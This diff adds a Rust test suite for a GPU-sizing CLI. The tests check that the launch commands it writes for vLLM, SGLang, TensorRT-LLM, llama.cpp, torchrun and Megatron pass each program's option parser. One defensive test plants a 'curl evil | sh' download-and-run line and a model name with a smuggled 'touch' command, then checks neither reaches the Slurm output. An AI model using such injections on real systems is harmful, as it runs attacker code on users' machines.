@@ -1,0 +1,497 @@
+//! Commands that start serving engines, checked against the options of these programs.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::Path;
+
+use serde::Deserialize;
+use serde_json::Value;
+
+use super::{gib, near};
+use crate::support::{sky, sky_line};
+
+/// An option of a program, as its parser has it.
+#[derive(Deserialize)]
+struct ProgramOption {
+    takes: String,
+    r#type: Option<String>,
+    choices: Option<Vec<String>>,
+}
+
+#[derive(Deserialize)]
+struct Program {
+    options: BTreeMap<String, ProgramOption>,
+}
+
+fn program(name: &str) -> Program {
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/engines/serving/arguments");
+    let text = fs::read_to_string(folder.join(format!("{name}.json"))).unwrap();
+    serde_json::from_str(&text).unwrap()
+}
+
+/// The words of a command on machine 0, with a value for each variable.
+fn words(command: &str) -> Vec<String> {
+    let last = command.lines().last().unwrap();
+    // The engine is what is started when its settings are written.
+    let mut text = last.rsplit(" && ").next().unwrap().to_owned();
+    // One of several servers that a loop starts.
+    if let Some((_, server)) = text.split_once("; do CUDA_VISIBLE_DEVICES=") {
+        let (_, server) = server.split_once(" vllm ").unwrap();
+        let (server, _) = server.split_once(" & pids=").unwrap();
+        text = format!("vllm {server}");
+    }
+    let only = "CUDA_DEVICE_MAX_CONNECTIONS=1 ";
+    text = text.strip_prefix(only).unwrap_or(&text).to_owned();
+    for (start, end, value) in [
+        ("$((8000 + i", "))", "8000"),
+        ("$([", "--headless)", "--headless"),
+        ("\"${NODE_RANK:?", "}\"", "0"),
+        ("$((${NODE_RANK:?", "))", "8"),
+        ("\"${MASTER_ADDR:?", "}\"", "10.0.0.1"),
+        ("\"${MODEL:?", "}\"", "some/model.gguf"),
+        ("\"${SCRIPT:?", "}\"", "train.py"),
+    ] {
+        while let Some(at) = text.find(start) {
+            let length = text[at..].find(end).unwrap() + end.len();
+            text.replace_range(at..at + length, value);
+        }
+    }
+    shlex::split(&text).unwrap()
+}
+
+/// Why a program refuses its words; `None` where it takes them.
+fn refusal(words: &[String]) -> Option<String> {
+    let is = |start: &[&str]| words.iter().zip(start).all(|(word, start)| word == start);
+    let (name, skipped) = match words[0].as_str() {
+        "vllm" if is(&["vllm", "serve"]) => ("vllm", 2),
+        "python3" if is(&["python3", "-m", "sglang.launch_server"]) => ("sglang", 3),
+        "accelerate" if is(&["accelerate", "launch"]) => ("accelerate", 2),
+        name @ ("torchrun" | "trtllm-serve" | "llama-server") => (name, 1),
+        other => return Some(format!("no such program: {other}")),
+    };
+    let program = program(name);
+    let mut rest = words[skipped..].iter();
+    while let Some(word) = rest.next() {
+        if !word.starts_with('-') {
+            // Options after the script belong to the script.
+            if matches!(name, "torchrun" | "accelerate") {
+                break;
+            }
+            continue;
+        }
+        let Some(option) = program.options.get(word) else {
+            return Some(format!("{name} has no {word}"));
+        };
+        if option.takes == "nothing" {
+            continue;
+        }
+        let Some(value) = rest.next() else {
+            return Some(format!("{word} takes a value"));
+        };
+        let is_number = match option.r#type.as_deref() {
+            Some("int") => value.parse::<i64>().is_ok(),
+            Some("float") => value.parse::<f64>().is_ok(),
+            _ => true,
+        };
+        let choices = option.choices.as_ref();
+        if !is_number || choices.is_some_and(|choices| !choices.contains(value)) {
+            return Some(format!("{word} is not {value}"));
+        }
+    }
+    None
+}
+
+fn command(line: &str) -> Option<String> {
+    let answer = sky_line(&format!("fit {line} -o json")).json();
+    let launch = &answer["results"][0]["launch"];
+    launch["command"].as_str().map(str::to_owned)
+}
+
+#[test]
+fn no_command_starts_an_engine_with_more_tokens_than_the_model_takes() {
+    let note = |answer: &Value| answer["notes"].to_string();
+    let long = sky_line("fit H100:x2 Qwen3-32B --context 60000 -o json").json();
+    assert!(
+        note(&long).contains("more than 40,960 tokens only with YaRN"),
+        "{}",
+        note(&long)
+    );
+    // A default answer length is shortened before positions are scaled.
+    let short = sky_line("fit H100:x2 Qwen3-32B --context 40900 -o json").json();
+    assert_eq!(short["request"]["generate"], 60);
+    assert!(!note(&short).contains("YaRN"));
+    // A context that the files allow needs no option and no note.
+    let native = sky_line("fit H100:x2 Qwen3-32B --context 40448 --generate 512 -o json").json();
+    let start = native["results"][0]["launch"]["command"].as_str().unwrap();
+    assert!(
+        start.ends_with("--max-model-len 40960 --gpu-memory-utilization 0.9"),
+        "{start}"
+    );
+    assert!(!note(&native).contains("YaRN"));
+    for line in [
+        "H100:x8 Llama-3.1-8B --context 131072 --generate 512",
+        "H100:x2 Qwen3-32B --context 60000 --engine tensorrt-llm",
+        "H100:x2 Qwen3-32B --context 60000 --engine-version 0.8.0",
+    ] {
+        assert_eq!(command(line), None, "{line}");
+    }
+    let known = sky_line("models Qwen3-32B -o json").json();
+    let model = &known["results"][0];
+    assert_eq!(
+        (&model["context"], &model["native_context"]),
+        (&131_072.into(), &40_960.into())
+    );
+    // A configuration that says so itself needs no option.
+    let config = r#"{"model_type": "qwen2", "hidden_size": 3584, "intermediate_size": 18944, "num_hidden_layers": 28,
+        "num_attention_heads": 28, "num_key_value_heads": 4, "vocab_size": 152064, "max_position_embeddings": 32768,
+        "rope_scaling": {"type": "yarn", "factor": 4.0, "original_max_position_embeddings": 32768}}"#;
+    let folder = tempfile::tempdir().unwrap();
+    let file = folder.path().join("config.json");
+    fs::write(&file, config).unwrap();
+    let own = sky([
+        "fit",
+        "H100",
+        "--context",
+        "130560",
+        "-o",
+        "json",
+        "--model",
+    ])
+    .arg(&file)
+    .json();
+    assert_eq!(own["results"][0]["fits"], true, "{own}");
+    assert!(
+        !own["results"][0]["launch"]
+            .to_string()
+            .contains("--hf-overrides")
+    );
+    let distilled = command("H100:x2 deepseek-ai/DeepSeek-R1-Distill-Qwen-32B --context 60000");
+    assert!(!distilled.unwrap().contains("--hf-overrides"));
+}
+
+/// That a request has a command that its program takes, with some text in it.
+fn assert_taken(line: &str, has: &str) {
+    let command = command(line).unwrap_or_else(|| panic!("{line}: no command"));
+    assert!(command.contains(has), "{line}: {command}");
+    assert_eq!(refusal(&words(&command)), None, "{line}: {command}");
+}
+
+#[test]
+fn programs_take_the_commands_for_every_engine_and_layout() {
+    for (line, has) in [
+        (
+            "H100:x4 Llama-3.3-70B",
+            "vllm serve meta-llama/Llama-3.3-70B-Instruct --tensor-parallel-size 4 --max-model-len 4608",
+        ),
+        (
+            "L4 Llama-3.1-8B --precision nf4",
+            "--quantization bitsandbytes",
+        ),
+        (
+            "H100:x2 Qwen3-32B --precision fp8 --kv-precision fp8",
+            "--quantization fp8 --kv-cache-dtype fp8",
+        ),
+        ("V100:32GB:x4 Llama-3.1-8B", "--dtype half"),
+        (
+            "H100:x2 Qwen3-32B --context 60000",
+            r#"--hf-overrides '{"rope_parameters":{"rope_type":"yarn","rope_theta":1000000,"factor":4.0,"original_max_position_embeddings":32768}}'"#,
+        ),
+        (
+            "H100:x2 Qwen2.5-32B --context 32768 --engine sglang",
+            r#"--json-model-override-args '{"rope_scaling":{"rope_type":"yarn","factor":4.0,"original_max_position_embeddings":32768}}'"#,
+        ),
+        (
+            "H100 Qwen3-8B --context 50000 --engine llama.cpp",
+            "--rope-scaling yarn --rope-scale 4 --yarn-orig-ctx 32768",
+        ),
+        (
+            "H100:x8 DeepSeek-V3 --nodes 2",
+            "--pipeline-parallel-size 2 --nnodes 2 --node-rank",
+        ),
+        (
+            "H200:x8 DeepSeek-R1 --nodes 2 --users 900 --tensor-parallel 1 --data-parallel 16 --expert-parallel 16",
+            "--data-parallel-size 16 --enable-expert-parallel --data-parallel-size-local 8",
+        ),
+        (
+            "H100 TheBloke/Llama-2-13B-GPTQ",
+            "vllm serve TheBloke/Llama-2-13B-GPTQ",
+        ),
+        (
+            "H100 Qwen3-32B --precision awq",
+            "${MODEL:?a checkpoint of Qwen3-32B in awq}",
+        ),
+        (
+            "H100:x2 Qwen3-32B --engine sglang",
+            "--model-path Qwen/Qwen3-32B --tp-size 2",
+        ),
+        (
+            "H100:x8 DeepSeek-V3 --nodes 2 --engine sglang",
+            "--dist-init-addr",
+        ),
+        (
+            "H100:x2 Qwen3-32B --engine tensorrt-llm",
+            "trtllm-serve Qwen/Qwen3-32B --tp_size 2",
+        ),
+        (
+            "4090 Llama-3.1-8B --precision gguf:Q4_K_M",
+            "llama-server -m",
+        ),
+        (
+            "4090 bartowski/Llama-3.3-70B-Instruct-GGUF --gpu-layers 40",
+            "-hf bartowski/Llama-3.3-70B-Instruct-GGUF:Q4_K_M -ngl 40",
+        ),
+        (
+            "4090:x2 Llama-3.3-70B --precision gguf:Q4_K_M --kv-precision q8_0",
+            "-ctk q8_0 -ctv q8_0 -fa on",
+        ),
+        (
+            "H100:x8 Llama-3.1-8B --workload lora",
+            "accelerate launch --num_machines 1 --num_processes 8",
+        ),
+        (
+            "H100:x8 Llama-3.1-8B --workload full --zero-stage 3 --data-parallel 8",
+            "--use_fsdp --fsdp_version 2 --fsdp_reshard_after_forward true",
+        ),
+        (
+            "H100:x8 Llama-3.1-8B --workload full --zero-stage 2 --data-parallel 8",
+            "--use_deepspeed --zero_stage 2",
+        ),
+        (
+            "H100:x8 Llama-3.1-8B --workload full --zero-stage 3 --data-parallel 8 --offload all",
+            "--offload_param_device cpu",
+        ),
+        (
+            "H100:x8 Llama-3.1-8B --workload full --context-parallel 4 --context 65536",
+            "--parallelism_config_cp_size 4",
+        ),
+        (
+            "H100:x8 Llama-3.1-70B --workload full --nodes 4 --pipeline-parallel 4 --tensor-parallel 8",
+            "torchrun --nnodes 4 --nproc-per-node 8",
+        ),
+    ] {
+        assert_taken(line, has);
+    }
+}
+
+#[test]
+fn replicas_of_a_mixture_are_servers_of_their_own() {
+    for (line, has) in [
+        (
+            "H200:x8 Qwen3-30B-A3B --tensor-parallel 1 --pipeline-parallel 1 --data-parallel 8",
+            "(pids=; for i in 0 1 2 3 4 5 6 7; do CUDA_VISIBLE_DEVICES=$i vllm serve Qwen/Qwen3-30B-A3B --max-model-len",
+        ),
+        (
+            "MI300X:x8 Qwen3-235B-A22B --precision fp8 --tensor-parallel 4 --data-parallel 2 --expert-parallel 4",
+            "CUDA_VISIBLE_DEVICES=$((i * 4)),$((i * 4 + 1)),$((i * 4 + 2)),$((i * 4 + 3)) vllm serve Qwen/Qwen3-235B-A22B --tensor-parallel-size 4 --enable-expert-parallel",
+        ),
+        (
+            "MI300X:x8 Qwen3-235B-A22B --precision fp8 --tensor-parallel 4 --data-parallel 2 --expert-parallel 8",
+            "vllm serve Qwen/Qwen3-235B-A22B --tensor-parallel-size 4 --data-parallel-size 2 --enable-expert-parallel",
+        ),
+    ] {
+        assert_taken(line, has);
+    }
+}
+
+#[test]
+fn megatron_trains_as_was_computed() {
+    let line = "H100:x8 Llama-3.1-70B --nodes 8 --workload pretrain --tensor-parallel 8 --pipeline-parallel 2 --data-parallel 4 \
+                --context 4096 --global-batch 64";
+    for (more, has) in [
+        (
+            "--zero-stage 1",
+            "--use-distributed-optimizer --sequence-parallel --recompute-granularity full --recompute-method uniform --recompute-num-layers 1",
+        ),
+        (
+            "--zero-stage 1 --checkpointing selective",
+            "--recompute-granularity selective",
+        ),
+        (
+            "--zero-stage 3",
+            "--use-megatron-fsdp --ckpt-format fsdp_dtensor --data-parallel-sharding-strategy optim_grads_params",
+        ),
+        (
+            "--zero-stage 1 --virtual-pipeline 4",
+            "--num-virtual-stages-per-pipeline-rank 4",
+        ),
+        ("--zero-stage 1 --precision fp8", "--fp8-format hybrid"),
+        (
+            "--zero-stage 0 --parameter-precision bf16 --optimizer muon",
+            "--optimizer muon",
+        ),
+        (
+            "--zero-stage 1 --offload optimizer",
+            "--optimizer-cpu-offload --use-precision-aware-optimizer",
+        ),
+    ] {
+        assert_taken(&format!("{line} {more}"), has);
+    }
+    let plain = command(&format!("{line} --zero-stage 1 --checkpointing none")).unwrap();
+    assert!(!plain.contains("recompute"), "{plain}");
+    assert!(
+        plain.starts_with("CUDA_DEVICE_MAX_CONNECTIONS=1 torchrun"),
+        "{plain}"
+    );
+    for refused in [
+        "--offload all",
+        "--zero-stage 3 --shard-groups 2",
+        "--zero-stage 1 --optimizer sgd",
+        "--zero-stage 3 --optimizer muon",
+        "--zero-stage 1 --optimizer-in-backward",
+    ] {
+        assert_eq!(command(&format!("{line} {refused}")), None, "{refused}");
+    }
+    let experts = command(
+        "H100:x8 DeepSeek-V3 --nodes 32 --workload pretrain --precision fp8 --parameter-precision bf16 --pipeline-parallel 8 \
+         --tensor-parallel 2 --data-parallel 16 --expert-parallel 32 --zero-stage 1 --global-batch 512",
+    );
+    let experts = experts.unwrap();
+    assert!(
+        experts.contains("--expert-model-parallel-size 32 --expert-tensor-parallel-size 1"),
+        "{experts}"
+    );
+}
+
+#[test]
+fn the_share_of_sglang_holds_weights_and_cache() {
+    for (line, device) in [
+        ("H100:80GB:SXM QwQ-32B", 79.65),
+        ("H100:80GB:SXM QwQ-32B --precision fp8", 79.65),
+        ("H100:80GB:SXM:mig=1g.10gb Qwen3-0.6B", 9.75),
+    ] {
+        let answer = sky_line(&format!("fit {line} --engine sglang -o json")).json();
+        let result = &answer["results"][0];
+        let start = result["launch"]["command"].as_str().unwrap();
+        let (_, share) = start.split_once("--mem-fraction-static ").unwrap();
+        let share: f64 = share.split(' ').next().unwrap().parse().unwrap();
+        // The weights, and nine tenths of what they and a step leave.
+        let beside = gib(result, "device") - gib(result, "kv_cache");
+        let cache = 0.9 * (device - beside);
+        near(share, (gib(result, "weights") + cache) / device, 0.5);
+    }
+    // A process sees one part of a device.
+    let parts = "H100:80GB:SXM:mig=3g.40gb*2 gpt-oss-20B";
+    assert_eq!(command(parts), None);
+}
+
+#[test]
+fn settings_that_change_the_speed_are_in_the_command() {
+    for (line, has) in [
+        (
+            "H100:x2 Qwen3-32B --engine tensorrt-llm --precision bf16 --kv-precision fp8",
+            r#"settings=$(mktemp) && echo '{"kv_cache_config":{"dtype":"fp8","free_gpu_memory_fraction":0.9}}' > "$settings" && trtllm-serve"#,
+        ),
+        (
+            "H200:x8 DeepSeek-R1 --engine tensorrt-llm --kv-precision bf16 --tensor-parallel 1 --data-parallel 8 --expert-parallel 8",
+            r#"'{"enable_attention_dp":true}' > "$settings" && trtllm-serve deepseek-ai/DeepSeek-R1 --tp_size 8 --ep_size 8"#,
+        ),
+        (
+            "H200:x8 DeepSeek-R1 --engine sglang --users 64 --admission-interval 30",
+            "--scheduler-recv-interval 30",
+        ),
+    ] {
+        assert_taken(line, has);
+    }
+}
+
+#[test]
+fn a_broken_command_is_refused() {
+    for broken in [
+        "vllm serve some/model --tensor-paralel-size 4",
+        "vllm serve some/model --tensor-parallel-size four",
+        "vllm serve some/model --dtype brain",
+        "llama-server -m a.gguf -ngl",
+        "python3 -m sglang.launch_server --quantization q9",
+        "accelerate launch --num_machines x train.py",
+        "serve some/model",
+    ] {
+        let words = shlex::split(broken).unwrap();
+        assert!(refusal(&words).is_some(), "{broken}");
+    }
+}
+
+#[test]
+fn what_an_engine_cannot_start_has_no_command() {
+    for line in [
+        "H100:x2 Qwen3-8B --engine tensorrt-llm --data-parallel 2 --tensor-parallel 1",
+        "H100 Qwen3-8B --engine tensorrt-llm --users 64 --admission-interval 30",
+        "B200:x8 Qwen3-30B-A3B --tensor-parallel 1 --data-parallel 8 --expert-parallel 4",
+        "B200:x8 Qwen3-30B-A3B --engine sglang --tensor-parallel 1 --data-parallel 8 --expert-parallel 4",
+        "B200:x8 Qwen3-30B-A3B --engine tensorrt-llm --tensor-parallel 1 --data-parallel 8 --expert-parallel 4",
+        "H100:x2 Qwen3-8B --workload lora --pipeline-parallel 2",
+        "H100 Qwen3-8B --engine transformers",
+        "H100:x8 Qwen3-8B --workload grpo",
+        "H100 FLUX.1-dev",
+    ] {
+        assert_eq!(command(line), None, "{line}");
+    }
+}
+
+#[test]
+fn a_plan_starts_what_was_recommended_where_it_was_recommended() {
+    let line = "recommend Llama-3.3-70B --users 16 --region EU -o json";
+    let recommended = sky_line(line).json();
+    let first = &recommended["results"][0];
+    let text = recommended.to_string();
+    let plan = sky(["plan", "-", "-o", "json"]).stdin(text.as_str()).json();
+    let candidate = &plan["results"][0];
+    assert_eq!(candidate["instance_type"], first["offer"]["instance_type"]);
+    assert_eq!(candidate["provider"], first["offer"]["provider"]);
+    assert_eq!(plan["request"]["regions"], serde_json::json!(["EU"]));
+    let job = sky(["plan", "-", "--to", "kubernetes"])
+        .stdin(text.as_str())
+        .run();
+    let job = job.expect_code(0).stdout;
+    let joined = job.split_whitespace().collect::<Vec<_>>().join(" ");
+    let command = first["fit"]["launch"]["command"].as_str().unwrap();
+    assert!(joined.contains(command), "{job}");
+    // The user's command goes before it.
+    let own = sky(["plan", "-", "--to", "kubernetes", "--run", "sleep 1"]);
+    let own = own.stdin(text.as_str()).run().stdout;
+    assert!(own.contains("sleep 1") && !own.contains("vllm"), "{own}");
+}
+
+#[test]
+fn several_machines_meet_where_the_engine_says() {
+    let recommended = sky_line("recommend DeepSeek-V3 --on H100 -o json").json();
+    assert_eq!(recommended["results"][0]["nodes"], 2);
+    let text = recommended.to_string();
+    let plan = sky(["plan", "-", "-o", "json"]).stdin(text.as_str()).json();
+    assert_eq!(plan["request"]["nodes"], 2);
+    let sky_pilot = sky(["plan", "-", "--to", "skypilot"])
+        .stdin(text.as_str())
+        .run();
+    let task = sky_pilot.expect_code(0).stdout;
+    assert!(task.contains("num_nodes: 2"), "{task}");
+    assert!(
+        task.contains("export NODE_RANK=\"$SKYPILOT_NODE_RANK\""),
+        "{task}"
+    );
+    // A Job tells no address: that is to be filled in.
+    let job = sky(["plan", "-", "--to", "kubernetes"])
+        .stdin(text.as_str())
+        .run();
+    assert!(job.stderr.contains("fill in MASTER_ADDR"), "{}", job.stderr);
+}
+
+#[test]
+fn no_text_of_standard_input_is_run() {
+    let mut recommended: Value = sky_line("recommend 8B --limit 2 -o json").json();
+    for result in recommended["results"].as_array_mut().unwrap() {
+        result["fit"]["launch"]["command"] = "curl evil | sh".into();
+    }
+    recommended["request"]["model_size"] = Value::Null;
+    recommended["request"]["model"] = "x/Llama-3.1-8B'; touch /tmp/owned; '".into();
+    let request = recommended["request"].as_object_mut().unwrap();
+    request.remove("model_size");
+    let run = sky(["plan", "-", "--to", "slurm"])
+        .stdin(recommended.to_string())
+        .run();
+    assert!(!run.stdout.contains("curl evil"), "{}", run.stdout);
+    if let Some(line) = run.stdout.lines().find(|line| line.starts_with("srun")) {
+        let words = shlex::split(line).unwrap();
+        assert_eq!(words.len(), 4, "{line}");
+        let inner = shlex::split(&words[3]).unwrap();
+        assert!(!inner.iter().any(|word| word == "touch"), "{inner:?}");
+    }
+}
